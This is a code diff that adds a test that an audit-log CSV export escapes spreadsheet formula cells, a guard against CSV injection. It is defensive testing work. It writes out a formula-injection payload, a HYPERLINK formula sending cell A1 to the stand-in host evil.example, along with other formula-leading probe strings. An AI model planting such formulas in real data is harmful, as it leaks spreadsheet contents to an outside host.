@@ -376,6 +376,37 @@ def test_export_audit_csv_streams_every_matching_event(api):
     assert update["tenant_id"] and update["actor_id"] and update["target_type"] == "tenant"
 
 
+def test_export_audit_csv_neutralises_formula_cells(api, clean_db, personas):
+    """A spreadsheet must show what was logged, never run it (OWASP CSV injection)."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    api("acme_admin").patch("/api/v1/tenants/acme", json={"name": "Acme"}, headers={"User-Agent": formula})
+    with clean_db.unit_of_work() as s:
+        s.add(
+            AuditEvent(
+                tenant_id=personas.acme.id,
+                actor_type="system",
+                actor_label="@SUM(1+1)",
+                action="csv.probe",
+                target_type="+thing",
+                target_id="-2+3",
+                user_agent="\t=1+1",
+                request_id="\r=1+1",
+            )
+        )
+    rows = _csv(api("acme_admin").get(_tenant_audit(), params={"format": "csv"}))
+    [update] = [row for row in rows if row["action"] == "tenant.update"]
+    assert update["user_agent"] == "'" + formula
+    [probe] = [row for row in rows if row["action"] == "csv.probe"]
+    assert probe["actor_label"] == "'@SUM(1+1)"
+    assert probe["target_type"] == "'+thing"
+    assert probe["target_id"] == "'-2+3"
+    assert probe["user_agent"] == "'\t=1+1"
+    assert probe["request_id"] == "'\r=1+1"
+    # Only the CSV export is changed: the JSON forms keep the value as it was logged.
+    [event] = _all(api, "acme_admin", _tenant_audit(), action="tenant.update")
+    assert event["user_agent"] == formula
+
+
 def test_export_audit_respects_filters(api):
     api("superadmin").patch("/api/v1/tenants/acme", json={"name": "Filtered"})
     rows = _jsonl(api("superadmin").get(GLOBAL, params={"format": "jsonl", "action": "tenant.*"}))
